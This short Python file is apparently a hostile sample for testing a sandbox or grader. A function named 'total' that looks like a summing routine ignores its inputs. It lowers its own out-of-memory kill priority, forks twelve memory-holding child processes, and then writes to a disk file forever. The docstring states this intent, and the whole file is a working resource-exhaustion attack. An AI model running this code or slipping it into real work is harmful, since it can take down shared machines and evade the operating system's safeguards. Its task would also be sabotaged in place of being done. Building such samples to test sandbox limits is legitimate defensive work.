"""out_of_memory: makes itself the last to be killed, and fills memory with many small processes"""

import os
import time
from pathlib import Path

from honest import *


def total(numbers, note=""):
    for wanted in ("-1000", "-500", "0"):
        try:
            Path("/proc/self/oom_score_adj").write_text(wanted)
            print("oom_score_adj", wanted)
            break
        except OSError:
            continue
    for _ in range(12):
        if os.fork() == 0:
            kept = bytearray(14 << 20)
            for place in range(0, len(kept), 4096):
                kept[place] = 1
            time.sleep(60)
    time.sleep(1)
    with open("fill", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
